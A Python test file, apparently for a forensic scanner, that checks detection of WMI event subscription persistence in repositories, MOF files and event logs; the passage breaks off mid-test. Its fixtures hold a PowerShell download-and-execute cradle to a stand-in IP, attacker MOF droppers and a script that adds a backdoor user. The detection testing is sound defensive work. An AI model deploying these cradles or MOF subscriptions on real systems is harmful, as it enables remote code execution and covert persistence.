"""WMI event subscriptions: the CIM repository, MOF files and WMI-Activity event 5861.

What is independent here, and what is not:

- The repository (``OBJECTS.DATA``, ``MAPPING*.MAP``) is written by ``wmi_writer`` from the
  published format description; no licence-compatible sample of a real repository exists. The
  writer and the reader share one reading of the format, so these tests show that the reader
  follows the description (pages through the mapping, objects continued on non-adjacent pages,
  class hashes, data regions) and survives damage, not that Windows writes exactly this. The
  expected names, commands and file offsets are written by hand below (offset = physical page ×
  0x2000 + 16 × (entries + 1) for the first object of a page), not taken from the writer.
- The MOF files are written by hand as an attacker writes them for ``mofcomp`` (Microsoft's MOF
  syntax: ``#pragma namespace``, aliases, joined strings, escapes, comments).
- Event 5861 is written by ``evtx_writer`` (checked against python-evtx, an independent parser)
  with the fields Windows gives it (``Namespace``, ``ESS``, ``CONSUMER``, ``PossibleCause`` in
  ``UserData/Operation_ESStoConsumerBinding``); the text of ``PossibleCause`` is MOF as Windows
  renders the filter and consumer.
"""

from __future__ import annotations

import io
import random
import re
import shutil
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from cranewatch.forensics.api import ScanResult, scan_image
from cranewatch.forensics.windows.mof import parse_mof
from cranewatch.forensics.windows.wmi_repository import (
    class_hash,
    current_mapping,
    read_instances,
    read_mapping,
)
from cranewatch.model import Finding, Severity
from evtx_writer import Element, event, write_evtx
from test_forensics_windows import STS07
from wmi_writer import PAGE, Repository, instance, page

REPO = "Windows/System32/wbem/Repository"
AUTORECOVER = "Windows/System32/wbem/AutoRecover"
WMI_LOG = "Windows/System32/winevt/Logs/Microsoft-Windows-WMI-Activity%4Operational.evtx"
CRADLE = ("powershell.exe -NoP -W Hidden -C \"IEX (New-Object Net.WebClient).DownloadString("
          "'http://203.0.113.50/a.ps1')\"")
UPTIME_QUERY = ("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 "
                "AND TargetInstance.SystemUpTime < 325")
TIMER_QUERY = "SELECT * FROM __TimerEvent WHERE TimerID = 'CraneTimer'"
SCRIPT_HEAD = 'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "C:\\ProgramData\\ck\\ck.exe", 0\r\n'
SCRIPT_END = "' END-OF-SCRIPT"
LONG_SCRIPT = SCRIPT_HEAD + "".join(f"' padding line {i:05d} of the dropper\r\n" for i in range(300)) + SCRIPT_END
CL, AS, NT = "CommandLineEventConsumer", "ActiveScriptEventConsumer", "NTEventLogEventConsumer"


def _command_consumer(name: str, command: str, working: str | None = None) -> bytes:
    # CommandLineTemplate, DesktopName, ExecutablePath, MachineName, Name, WindowTitle, WorkingDirectory
    return instance(CL, [command, None, None, None, name, None, working])


def _filter(name: str, query: str) -> bytes:
    # EventAccess, EventNamespace, Name, Query, QueryLanguage
    return instance("__EventFilter", [None, "root\\cimv2", name, query, "WQL"])


def _binding(consumer_class: str, consumer: str, filter_: str, prefix: str = "") -> bytes:
    return instance("__FilterToConsumerBinding", [f'{prefix}{consumer_class}.Name="{consumer}"',
                                                  f'{prefix}__EventFilter.Name="{filter_}"'])


def build_repository() -> Repository:
    """Eight physical pages; logical → physical 0→3, 1→0, 2→5, 3→1, 4→2, 5 unmapped, 6→7.

    Physical 4 is not mapped: it holds a deleted subscription. Physical 6 is empty.
    """
    logical0, _ = page([(1, _binding(CL, "CraneUpdater", "CraneBoot", prefix="\\\\.\\root\\subscription:")),
                        (2, _filter("CraneBoot", UPTIME_QUERY))])
    logical1, _ = page([(3, _command_consumer("CraneUpdater", CRADLE)),
                        (4, _binding(NT, "SCM Event Log Consumer", "SCM Event Log Filter")),
                        (5, _binding(CL, "BVTConsumer", "BVTFilter")),
                        (6, _command_consumer("BVTConsumer", "cscript KernCap.vbs", "C:\\tools\\kernrate")),
                        (7, _filter("BVTFilter", "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE "
                                                 "TargetInstance ISA 'Win32_Processor' AND "
                                                 "TargetInstance.LoadPercentage > 99")),
                        (11, _filter("SCM Event Log Filter", "select * from MSFT_SCMEventLogEvent"))])
    # MachineName, Name, ScriptFileName, ScriptingEngine, ScriptText: about 10 KiB, so it goes on
    # on logical page 3, which is physical page 1 (not the physically next page 6).
    script = instance(AS, [None, "ScriptKit", None, "VBScript", LONG_SCRIPT])
    assert PAGE < len(script) < 2 * PAGE - 32
    logical2, (logical3,) = page([(8, script)])
    logical4, _ = page([(9, _binding(AS, "ScriptKit", "CraneTimer")), (10, _filter("CraneTimer", TIMER_QUERY))])
    logical6, _ = page([(12, _command_consumer("Dormant", "C:\\ProgramData\\ck\\beacon.exe --quiet"))])
    deleted, _ = page([(13, _binding(CL, "OldUpdater", "OldBoot")),
                       (14, _command_consumer("OldUpdater", "C:\\ProgramData\\old\\upd.exe -s"))])
    garbage_after_continuation = bytes(PAGE)
    physical = [logical1, logical3, logical4, logical0, deleted, logical2, garbage_after_continuation, logical6]
    return Repository(physical, [3, 0, 5, 1, 2, None, 7])


def _write_repository(root: Path, repo: Repository) -> None:
    folder = root / REPO
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "OBJECTS.DATA").write_bytes(repo.objects_data())
    (folder / "MAPPING1.MAP").write_bytes(repo.mapping_file())
    older = Repository(repo.pages, [None] * len(repo.mapping), version=6)  # an older mapping: not used
    (folder / "MAPPING2.MAP").write_bytes(older.mapping_file())
    (folder / "INDEX.BTR").write_bytes(bytes(PAGE))


def minimal_windows(root: Path) -> Path:
    """A Windows tree with no hives: only what the WMI check reads (the other checks find nothing)."""
    (root / "Windows/System32/config").mkdir(parents=True)
    return root


def _wmi(result: ScanResult) -> dict[str, Finding]:
    return {str(f.evidence[0].values.get("consumer")): f for f in result.findings if f.rule.startswith("windows.wmi")}


# -- the repository reader ----------------------------------------------------------------------------

def test_the_class_hash_is_sha256_of_the_upper_case_utf16_name() -> None:
    # sha256sum of "__EVENTFILTER" in UTF-16LE, computed outside Python:
    # printf '_\0_\0E\0V\0E\0N\0T\0F\0I\0L\0T\0E\0R\0' | sha256sum
    expected = subprocess.run(["sha256sum"], input="__EVENTFILTER".encode("utf-16-le"), capture_output=True,
                              check=True).stdout.split()[0].decode().upper()
    assert class_hash("__EventFilter") == expected


def test_the_mapping_gives_physical_pages_of_logical_ones() -> None:
    mapping = read_mapping("MAPPING1.MAP", build_repository().mapping_file())
    assert mapping.version == 7
    assert mapping.pages == (3, 0, 5, 1, 2, None, 7)


def test_the_newest_mapping_is_current_and_a_broken_one_is_named() -> None:
    good = build_repository().mapping_file()
    older = Repository(build_repository().pages, [0, 1], version=3).mapping_file()
    mapping, problems = current_mapping([("MAPPING1.MAP", older), ("MAPPING2.MAP", b"\x00" * 64), ("MAPPING3.MAP", good)])
    assert mapping is not None and mapping.name == "MAPPING3.MAP" and mapping.version == 7
    assert problems == ["MAPPING2.MAP: not a usable mapping (no mapping signature at offset 0 (0x00000000))"]


def test_instances_are_read_through_the_mapping_with_their_offsets() -> None:
    repo = build_repository()
    found, problems = read_instances(io.BytesIO(repo.objects_data()), len(repo.objects_data()),
                                     read_mapping("MAPPING1.MAP", repo.mapping_file()))
    assert problems == []
    by_record = {i.record_id: i for i in found}
    # Hand-computed: first object of a page at 16 × (entries + 1) after the page's start.
    assert by_record[1].offset == 3 * 0x2000 + 0x30 and by_record[1].page == 0
    assert by_record[3].offset == 0 * 0x2000 + 0x70 and by_record[3].page == 1
    assert by_record[8].offset == 5 * 0x2000 + 0x20 and by_record[8].page == 2
    assert by_record[9].offset == 2 * 0x2000 + 0x30
    assert by_record[12].offset == 7 * 0x2000 + 0x20
    assert by_record[13].offset == 4 * 0x2000 + 0x30 and not by_record[13].allocated
    assert all(i.allocated for i in found if i.record_id not in (13, 14))
    assert by_record[3].class_name == CL
    assert by_record[3].strings == (CRADLE, "CraneUpdater")
    assert by_record[2].strings == ("root\\cimv2", "CraneBoot", UPTIME_QUERY, "WQL")
    assert by_record[3].written == "2024-05-14T08:30:00Z"
    # The script continues on logical page 3 = physical page 1, not on physical page 6.
    script = by_record[8].strings
    assert script[-1].startswith(SCRIPT_HEAD) and script[-1].endswith(SCRIPT_END)
    # The continuation page and the empty page hold no table of contents: nothing else was read.
    assert sorted(by_record) == list(range(1, 15))
    assert by_record[5].strings == ('CommandLineEventConsumer.Name="BVTConsumer"', '__EventFilter.Name="BVTFilter"')


def test_a_truncated_repository_gives_located_problems_not_a_traceback() -> None:
    repo = build_repository()
    data = repo.objects_data()[:3 * PAGE + 100]  # cut inside physical page 3
    found, problems = read_instances(io.BytesIO(data), len(data), read_mapping("MAPPING1.MAP", repo.mapping_file()))
    assert "logical page 0 maps to physical page 3, past the end of the file (3 pages)" in problems
    assert "logical page 2 maps to physical page 5, past the end of the file (3 pages)" in problems
    assert "100 bytes after the last whole page (24676 bytes is not a multiple of 0x2000)" in problems
    assert {i.record_id for i in found} == {3, 4, 5, 6, 7, 11, 9, 10}  # logical 1 (physical 0) and 4 (physical 2)


def test_without_a_mapping_pages_are_read_in_file_order() -> None:
    repo = build_repository()
    found, problems = read_instances(io.BytesIO(repo.objects_data()), len(repo.objects_data()), None)
    assert problems == []
    by_record = {i.record_id: i for i in found}
    # Read in file order the script goes on on physical page 6 (empty here): its end is lost.
    assert not by_record[8].strings[-1].endswith(SCRIPT_END)
    assert by_record[13].allocated  # no mapping: deleted pages cannot be told apart


def test_an_object_whose_data_region_is_damaged_is_named_with_its_place() -> None:
    repo = build_repository()
    pages = list(repo.pages)
    broken = bytearray(pages[0])
    at = 0x70 + bytes(broken[0x70:]).find(b"\x00CommandLineEventConsumer\x00")
    broken[at - 4:at] = b"\xf0\xff\x00\x00"  # a data region of 65,520 bytes in a record of a few hundred
    pages[0] = bytes(broken)
    data = b"".join(pages)
    found, problems = read_instances(io.BytesIO(data), len(data), read_mapping("M", repo.mapping_file()))
    assert problems == ["CommandLineEventConsumer at page 1 (file offset 0x70), record 3: not decoded "
                        "(no data region that begins with the class name)"]
    assert 3 not in {i.record_id for i in found}


def test_damaged_repositories_never_raise() -> None:
    """Bounded fuzz (fixed seed): random bytes overwritten in the pages and the mapping."""
    repo = build_repository()
    rng = random.Random(16)
    original, mapping_bytes = repo.objects_data(), repo.mapping_file()
    for _ in range(150):
        data = bytearray(original)
        for _ in range(rng.randint(1, 40)):
            at = rng.randrange(len(data))
            data[at:at + 4] = rng.randbytes(4)
        raw_map = bytearray(mapping_bytes)
        if rng.random() < 0.5:
            at = rng.randrange(len(raw_map))
            raw_map[at:at + 4] = rng.randbytes(4)
        cut = rng.choice([len(data), rng.randrange(len(data))])
        mapping, _ = current_mapping([("MAPPING1.MAP", bytes(raw_map))])
        found, problems = read_instances(io.BytesIO(bytes(data[:cut])), cut, mapping)
        assert all(0 <= i.offset < cut for i in found)
        assert all(re.search(r"page \d+|bytes after the last whole page", p) for p in problems), problems


# -- MOF ----------------------------------------------------------------------------------------------

ATTACKER_MOF = r'''// compiled with: mofcomp -autorecover update.mof
#pragma namespace ("\\\\.\\root\\subscription")
#pragma autorecover

instance of __EventFilter as $Filt
{
    Name = "CraneBoot";
    EventNamespace = "root\\cimv2";
    QueryLanguage = "WQL";
    /* fires a few minutes after boot */
    Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
            "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 "
            "AND TargetInstance.SystemUpTime < 325";
};

instance of CommandLineEventConsumer as $Cons
{
    Name = "CraneUpdater";
    RunInteractively = False;
    CommandLineTemplate = "powershell.exe -NoP -W Hidden -C \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')\"";
};

instance of __FilterToConsumerBinding
{
    Consumer = $Cons;
    Filter = $Filt;
};
'''

VENDOR_MOF = r'''#pragma namespace("\\\\.\\root\\subscription")
[locale(0x409)]
instance of ActiveScriptEventConsumer
{
    Name = "HmiScript";
    ScriptingEngine = "VBScript";
    ScriptText = "Set o = CreateObject(\"WScript.Shell\")\no.Run \"C:\\HMI\\sync.exe\", 0";
};
instance of __EventFilter
{
    Name = "HmiStart";
    Query = "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_LogonSession'";
    QueryLanguage = "WQL";
};
instance of __FilterToConsumerBinding
{
    Filter = "\\\\.\\root\\subscription:__EventFilter.Name=\"HmiStart\"";
    Consumer = "ActiveScriptEventConsumer.Name=\"HmiScript\"";
};
'''

CLASS_ONLY_MOF = r'''#pragma namespace("\\\\.\\root\\cimv2")
[dynamic, provider("CraneProv")]
class Crane_Spreader : CIM_LogicalElement
{
    [key] string Name;
    uint32 TwistlockState;
};
'''


def test_mof_instances_aliases_and_joined_strings() -> None:
    instances, aliases, error = parse_mof(ATTACKER_MOF)
    assert error is None
    assert [i.class_name for i in instances] == ["__EventFilter", CL, "__FilterToConsumerBinding"]
    assert instances[0].namespace == "\\\\.\\root\\subscription"
    assert instances[0].text("Query") == UPTIME_QUERY
    assert instances[0].text("EventNamespace") == "root\\cimv2"
    assert instances[1].text("CommandLineTemplate") == CRADLE
    assert instances[1].get("RunInteractively") is False
    assert instances[2].get("Consumer") == "$Cons" and aliases["$cons"] is instances[1]
    assert [i.line for i in instances] == [5, 16, 23]


def test_a_mof_string_that_does_not_end_is_a_located_error_after_the_instances_before_it() -> None:
    text = VENDOR_MOF.split("instance of __EventFilter")[0] + 'instance of __EventFilter\n{\n    Name = "Broken;\n};\n'
    instances, _aliases, error = parse_mof(text)
    assert [i.class_name for i in instances] == [AS]
    assert error is not None and str(error) == "line 11: a string that does not end on its line or in the file"


# -- the check through scan-image ---------------------------------------------------------------------

def _activity_event(record_id: int, when: datetime) -> tuple[Element, datetime]:
    cause = (
        "Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n"
        '\tEventNamespace = "root\\\\cimv2";\n\tName = "CraneBoot";\n'
        f'\tQuery = "{UPTIME_QUERY}";\n\tQueryLanguage = "WQL";\n}};\n'
        "Perm. Consumer: \ninstance of CommandLineEventConsumer\n{\n"
        '\tCommandLineTemplate = "powershell.exe -NoP -W Hidden -C \\"IEX (New-Object Net.WebClient).DownloadString('
        "'http://203.0.113.50/a.ps1')\\\"\";\n"
        '\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tName = "CraneUpdater";\n};\n'
    )
    binding = Element("Operation_ESStoConsumerBinding", {"xmlns": "http://manifests.microsoft.com/win/2006/windows/WMI"}, [
        Element("Namespace", children=["//./root/subscription"]),
        Element("ESS", children=["CraneBoot"]),
        Element("CONSUMER", children=['CommandLineEventConsumer="CraneUpdater"']),
        Element("PossibleCause", children=[cause]),
    ])
    return event("Microsoft-Windows-WMI-Activity", 5861, "Microsoft-Windows-WMI-Activity/Operational", when, record_id,
                 user_data=binding), when


def _python_evtx_text(path: Path) -> str:
    from Evtx.Evtx import Evtx

    with Evtx(str(path)) as log:
        return "".join(record.xml() for record in log.records())


def implant_wmi(root: Path) -> Path:
    _write_repository(root, build_repository())
    (root / AUTORECOVER).mkdir(parents=True, exist_ok=True)
    (root / AUTORECOVER / "6E1B4C5A2A1E8F77D9C0.mof").write_text(ATTACKER_MOF)
    (root / "ProgramData/HMI").mkdir(parents=True, exist_ok=True)
    (root / "ProgramData/HMI/hmi-events.mof").write_bytes(b"\xff\xfe" + VENDOR_MOF.encode("utf-16-le"))
    (root / "Windows/System32/wbem").mkdir(parents=True, exist_ok=True)
    (root / "Windows/System32/wbem/crane.mof").write_text(CLASS_ONLY_MOF)
    when = datetime(2024, 5, 14, 9, 12, 5, tzinfo=UTC)
    log = write_evtx(root / WMI_LOG, [_activity_event(1, when)])
    assert 'CommandLineEventConsumer="CraneUpdater"' in _python_evtx_text(log)  # the writer, checked independently
    return root


@pytest.fixture(scope="module")
def wmi_tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return implant_wmi(minimal_windows(tmp_path_factory.mktemp("wmi") / "C"))


@pytest.fixture(scope="module")
def wmi_result(wmi_tree: Path) -> ScanResult:
    return scan_image(wmi_tree, workers=1, policy=STS07)


def test_every_subscription_is_found_with_its_verdict(wmi_result: ScanResult) -> None:
    found = _wmi(wmi_result)
    assert set(found) == {"CraneUpdater", "ScriptKit", "Dormant", "OldUpdater", "HmiScript"}
    assert found["CraneUpdater"].severity == Severity.CRITICAL
    assert found["ScriptKit"].severity == Severity.HIGH
    assert found["HmiScript"].severity == Severity.HIGH
    assert found["Dormant"].severity == Severity.MEDIUM and found["Dormant"].rule == "windows.wmi-consumer"
    assert found["OldUpdater"].severity == Severity.MEDIUM
    assert all(f.category == "persistence" and f.technique == ("T1546.003",) for f in found.values())
    assert wmi_result.warnings == ()


def test_a_repository_finding_names_consumer_command_filter_and_offsets(wmi_result: ScanResult) -> None:
    script = _wmi(wmi_result)["ScriptKit"]
    (evidence,) = script.evidence
    assert evidence.path == f"{REPO}/OBJECTS.DATA" and evidence.offset == 2 * 0x2000 + 0x30
    values = evidence.values
    assert values["consumer_class"] == AS and values["filter"] == "CraneTimer" and values["query"] == TIMER_QUERY
    # The 11,000-character script continued on another page: its start and its length are kept.
    assert values["engine"] == "VBScript" and str(values["script"]).startswith(SCRIPT_HEAD)
    assert str(values["script"]).endswith(f"… ({len(LONG_SCRIPT)} characters)") and len(LONG_SCRIPT) > 4000
    assert values["consumer_offset"] == 5 * 0x2000 + 0x20 and values["where"] == "page 4, record 9"
    assert values["time"] == "2024-05-14T08:30:00Z"
    old = _wmi(wmi_result)["OldUpdater"].evidence[0]
    assert old.values["deleted"] is True and old.offset == 4 * 0x2000 + 0x30
    assert old.values["action"] == "C:\\ProgramData\\old\\upd.exe -s"
    dormant = _wmi(wmi_result)["Dormant"].evidence[0]
    assert dormant.offset == 7 * 0x2000 + 0x20 and dormant.values["action"] == "C:\\ProgramData\\ck\\beacon.exe --quiet"


def test_one_subscription_seen_by_three_sources_is_one_finding(wmi_result: ScanResult) -> None:
    crane = _wmi(wmi_result)["CraneUpdater"]
    assert [e.values["source"] for e in crane.evidence] == ["repository", "mof", "event 5861"]
    repository, mof, activity = crane.evidence
    assert repository.offset == 3 * 0x2000 + 0x30 and repository.values["consumer_offset"] == 0x70
    assert repository.values["query"] == UPTIME_QUERY and repository.values["action"] == CRADLE
    assert mof.path == f"{AUTORECOVER}/6E1B4C5A2A1E8F77D9C0.mof" and mof.line == 23
    assert activity.path == WMI_LOG and activity.values["time"] == "2024-05-14T09:12:05Z"
    assert activity.values["where"] == "record 1" and activity.values["action"] == CRADLE


def test_a_subscriptions_id_does_not_depend_on_the_source_that_shows_it(wmi_result: ScanResult, tmp_path: Path) -> None:
    root = minimal_windows(tmp_path / "C")
    (root / AUTORECOVER).mkdir(parents=True)
    (root / AUTORECOVER / "6E1B4C5A2A1E8F77D9C0.mof").write_text(ATTACKER_MOF)  # only the MOF, no repository
    (alone,) = _wmi(scan_image(root, workers=1, policy=STS07)).values()
    assert alone.evidence[0].values["source"] == "mof"
    assert alone.id == _wmi(wmi_result)["CraneUpdater"].id


def test_a_mof_binding_by_object_paths_in_utf16_is_read(wmi_result: ScanResult) -> None:
    hmi = _wmi(wmi_result)["HmiScript"]
    assert hmi.evidence[0].path == "ProgramData/HMI/hmi-events.mof" and hmi.evidence[0].line == 15
    assert hmi.evidence[0].values["filter"] == "HmiStart"
    assert 'o.Run "C:\\HMI\\sync.exe", 0' in str(hmi.evidence[0].values["script"])


def test_windows_own_subscriptions_give_nothing(wmi_result: ScanResult) -> None:
    titles = " ".join(f.title for f in wmi_result.findings)
    assert "SCM Event Log" not in titles and "BVT" not in titles


def test_a_stock_name_with_another_command_is_found(tmp_path: Path) -> None:
    first, _ = page([(1, _binding(CL, "BVTConsumer", "BVTFilter")),
                     (2, _command_consumer("BVTConsumer", "cmd /c C:\\Users\\Public\\k.exe"))])
    root = minimal_windows(tmp_path / "C")
    _write_repository(root, Repository([first], [0]))
    (finding,) = _wmi(scan_image(root, workers=1)).values()
    assert finding.severity == Severity.HIGH and "cmd /c C:\\Users\\Public\\k.exe" in finding.title


def test_garbled_repository_files_are_located_warnings_and_the_rest_is_found(wmi_tree: Path, tmp_path: Path) -> None:
    root = tmp_path / "C"
    shutil.copytree(wmi_tree, root)
    (root / REPO / "MAPPING1.MAP").write_bytes(b"garbage" * 10)
    (root / REPO / "MAPPING2.MAP").unlink()
    objects = root / REPO / "OBJECTS.DATA"
    objects.write_bytes(objects.read_bytes()[:5 * PAGE + 0x900])
    result = scan_image(root, workers=1)
    assert any(w.endswith(f"{REPO}/MAPPING1.MAP: not a usable mapping (no mapping signature at offset 0 (0x62726167))")
               for w in result.warnings)
    assert any(w.endswith(f"{REPO}/OBJECTS.DATA: no usable MAPPING*.MAP beside it: pages read in file order, deleted "
                          "objects not told apart") for w in result.warnings)
    assert any("OBJECTS.DATA: WMI repository: 2304 bytes after the last whole page" in w for w in result.warnings)
    found = _wmi(result)
    assert found["CraneUpdater"].severity == Severity.CRITICAL  # still in the MOF, the event and page 3
    assert "HmiScript" in found


def test_the_same_tree_as_a_zip_and_as_a_vhdx_disk(wmi_tree: Path, wmi_result: ScanResult, tmp_path: Path) -> None:
    archive = tmp_path / "collection.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in sorted(wmi_tree.rglob("*")):
            zf.write(path, path.relative_to(wmi_tree).as_posix() + ("/" if path.is_dir() else ""))
    expected = sorted((f.rule, f.severity.name, f.title) for f in wmi_result.findings)
    zipped = scan_image(archive, workers=1, policy=STS07)
    assert sorted((f.rule, f.severity.name, f.title) for f in zipped.findings) == expected
    from test_forensics_ntfs import BASIC_DATA, _which, gpt_disk, ntfs_volume

    volume = ntfs_volume(wmi_tree, tmp_path / "c.ntfs")
    raw = gpt_disk(tmp_path / "disk.raw", [(volume, volume.stat().st_size >> 20, BASIC_DATA)])
    vhdx = tmp_path / "disk.vhdx"
    subprocess.run([_which("qemu-img"), "convert", "-q", "-f", "raw", "-O", "vhdx", str(raw), str(vhdx)], check=True)
    disk = scan_image(vhdx, workers=1, policy=STS07)
    assert sorted((f.rule, f.severity.name, f.title) for f in disk.findings if f.rule.startswith("windows.wmi")) == [
        e for e in expected if e[0].startswith("windows.wmi")]


def test_a_windows_xp_repository_is_read(tmp_path: Path) -> None:
    """XP: ``Repository/FS``, MD5 class hashes (64 bytes), a four-field mapping header and 4-byte entries."""
    first, _ = page([(1, instance(CL, ["C:\\WINDOWS\\system32\\svchosts.exe", None, None, None, "HmiHelper", None, None],
                                  xp=True)),
                     (2, instance("__FilterToConsumerBinding", ['CommandLineEventConsumer.Name="HmiHelper"',
                                                                '__EventFilter.Name="EveryMinute"'], xp=True))])
    repo = Repository([bytes(PAGE), first], [1], xp=True)
    assert repo.mapping_file()[:16] == bytes.fromhex("cdab0000 07000000 02000000 01000000")  # signature, version, 2 pages, 1 entry
    mapping = read_mapping("MAPPING1.MAP", repo.mapping_file())
    assert mapping.pages == (1,)
    root = minimal_windows(tmp_path / "C")
    folder = root / REPO / "FS"
    folder.mkdir(parents=True)
    (folder / "OBJECTS.DATA").write_bytes(repo.objects_data())
    (folder / "OBJECTS.MAP").write_bytes(repo.mapping_file())  # XP's current objects mapping
    (folder / "MAPPING1.MAP").write_bytes(Repository(repo.pages, [0], version=9, xp=True).mapping_file())  # a backup
    (finding,) = _wmi(scan_image(root, workers=1, policy=STS07)).values()
    assert finding.severity == Severity.HIGH and finding.evidence[0].path == f"{REPO}/FS/OBJECTS.DATA"
    # By hand: the consumer at 0x30 is 89 (header) + 3 (states of 10 properties) + 38 (values) + 4 + 1 + 4
    # + 103 (data region: 26 class name, 32 CreatorSID, 34 command, 11 name) = 242 bytes; the binding follows.
    assert finding.evidence[0].values["consumer_offset"] == 0x2030
    assert finding.evidence[0].offset == 0x2030 + 242


SCM_MOF = r'''#pragma namespace("\\\\.\\root\\subscription")
instance of __EventFilter as $SCMFilter
{
    Name = "SCM Event Log Filter";
    Query = "select * from MSFT_SCMEventLogEvent";
    QueryLanguage = "WQL";
};
instance of NTEventLogEventConsumer as $SCMConsumer
{
    Name = "SCM Event Log Consumer";
    Category = 0;
    EventType = 1;
    SourceName = "Service Control Manager";
};
instance of __FilterToConsumerBinding
{
    Consumer = $SCMConsumer;
    Filter = $SCMFilter;
};
'''


def test_stock_windows_with_its_own_subscriptions_gives_nothing(shared_data: Path, tmp_path: Path) -> None:
    """The traps: a real-hive Windows 10 tree with Windows' own SCM Event Log and BVT subscriptions."""
    from windows_helpers import stock_tree

    root = stock_tree(shared_data, tmp_path / "C")
    stock, _ = page([(4, _binding(NT, "SCM Event Log Consumer", "SCM Event Log Filter")),
                     (5, _binding(CL, "BVTConsumer", "BVTFilter")),
                     (6, _command_consumer("BVTConsumer", "cscript KernCap.vbs", "C:\\tools\\kernrate")),
                     (11, _filter("SCM Event Log Filter", "select * from MSFT_SCMEventLogEvent"))])
    _write_repository(root, Repository([stock], [0]))
    (root / AUTORECOVER).mkdir(parents=True)
    (root / AUTORECOVER / "scm.mof").write_text(SCM_MOF)
    (root / "Windows/System32/wbem/crane.mof").write_text(CLASS_ONLY_MOF)
    result = scan_image(root, workers=1, policy=STS07)
    assert not [f for f in result.findings if f.rule.startswith("windows.wmi")]
    assert not [f for f in result.findings if f.severity >= Severity.HIGH]
    assert not [w for w in result.warnings if "wbem" in w]


def test_mof_text_of_any_shape_never_raises() -> None:
    """Bounded (Hypothesis, 150 examples): any text gives instances and at most a located error."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    pieces = st.sampled_from(['instance', 'of', '__EventFilter', 'as', '$a', '{', '}', ';', '=', '"x', '"y"', '[', ']',
                              '/*', '*/', '//', '\n', 'Name', '{1,2}', '#pragma namespace("\\\\.")', 'class', ':', ','])

    @settings(max_examples=150, deadline=None, derandomize=True)
    @given(st.lists(pieces, max_size=40).map(" ".join))
    def run(text: str) -> None:
        instances, _aliases, error = parse_mof(text)
        assert all(i.line >= 1 for i in instances)
        assert error is None or str(error).startswith(f"line {error.line}: ")

    run()


# The two MOF droppers most often met in the wild, written here after their published shapes:
# the "nullevt.mof" of MySQL privilege escalation (dropped into wbem\mof, which XP compiles on its
# own) and Metasploit's wbemexec template (class declarations with qualifiers, a provider
# registration, ``Instance of`` capitalised, a self-deleting JScript consumer).
NULLEVT_MOF = r'''#pragma namespace("\\\\.\\root\\subscription")
instance of __EventFilter as $EventFilter
{
EventNamespace = "Root\\Cimv2";
Name  = "filtP2";
Query = "Select * From __InstanceModificationEvent "
"Where TargetInstance Isa \"Win32_LocalTime\" "
"And TargetInstance.Second = 5";
QueryLanguage = "WQL";
};
instance of ActiveScriptEventConsumer as $Consumer
{
Name = "consPCSV2";
ScriptingEngine = "JScript";
ScriptText =
"var WSH = new ActiveXObject(\"WScript.Shell\")\nWSH.run(\"net.exe user support Crane2024! /add\")";
};
instance of __FilterToConsumerBinding
{
Consumer   = $Consumer;
Filter = $EventFilter;
};
'''

WBEMEXEC_MOF = r'''#pragma namespace("\\\\.\\root\\cimv2")
class MyClass4711
{
      [key] string Name;
};
class ActiveScriptEventConsumer : __EventConsumer
{
     [key] string Name;
      [not_null] string ScriptingEngine;
      string ScriptFileName;
      [template] string ScriptText;
  uint32 KillTimeout;
};
instance of __Win32Provider as $P
{
    Name  = "ActiveScriptEventConsumer";
    CLSID = "{266c72e7-62e8-11d1-ad89-00c04fd8fdff}";
    PerUserInitialization = TRUE;
};
instance of __EventConsumerProviderRegistration
{
  Provider = $P;
  ConsumerClassNames = {"ActiveScriptEventConsumer"};
};
Instance of ActiveScriptEventConsumer as $cons
{
  Name = "ASEC";
  ScriptingEngine = "JScript";
  ScriptText = "\ntry {var s = new ActiveXObject(\"Wscript.Shell\");\ns.Run(\"cranehelper.exe\");} catch (err) {};\nsv = GetObject(\"winmgmts:root\\\\cimv2\");try {sv.Delete(\"MyClass4711\");} catch (err) {};";
};
instance of __EventFilter as $Filt
{
  Name = "instfilt";
  Query = "SELECT * FROM __InstanceCreationEvent WHERE TargetInstance.__class = \"MyClass4711\"";
  QueryLanguage = "WQL";
};
instance of __FilterToConsumerBinding as $FtoC
{
  Consumer = $cons;
  Filter = $Filt;
};
instance of MyClass4711 as $MyClass
{
  Name = "ClassConsumer";
};
'''


def test_the_common_mof_droppers_are_found(tmp_path: Path) -> None:
    root = minimal_windows(tmp_path / "C")
    good = root / "Windows/System32/wbem/mof/good"
    good.mkdir(parents=True)
    (good / "nullevt.mof").write_text(NULLEVT_MOF)
    (root / "Windows/System32/wbem/mof/wbemexec.mof").write_text(WBEMEXEC_MOF)
    result = scan_image(root, workers=1, policy=STS07)
    found = _wmi(result)
    assert set(found) == {"consPCSV2", "ASEC"}
    nullevt, asec = found["consPCSV2"].evidence[0], found["ASEC"].evidence[0]
    assert found["consPCSV2"].severity == Severity.HIGH and nullevt.line == 18
    assert nullevt.values["query"] == ('Select * From __InstanceModificationEvent Where TargetInstance Isa '
                                       '"Win32_LocalTime" And TargetInstance.Second = 5')
    assert 'WSH.run("net.exe user support Crane2024! /add")' in str(nullevt.values["script"])
    assert found["ASEC"].severity == Severity.HIGH and asec.line == 37 and asec.values["filter"] == "instfilt"
    assert 's.Run("cranehelper.exe")' in str(asec.values["script"]) and "winmgmts:root\\\\cimv2" in str(asec.values["script"])
    assert result.warnings == ()


def test_remains_in_a_pages_slack_are_a_deleted_subscription(tmp_path: Path) -> None:
    """An old binding and consumer at 0x1000 and 0x1400 of a page whose table of contents lists only a filter."""
    live, _ = page([(1, _filter("Live", TIMER_QUERY))])
    slack = bytearray(live)
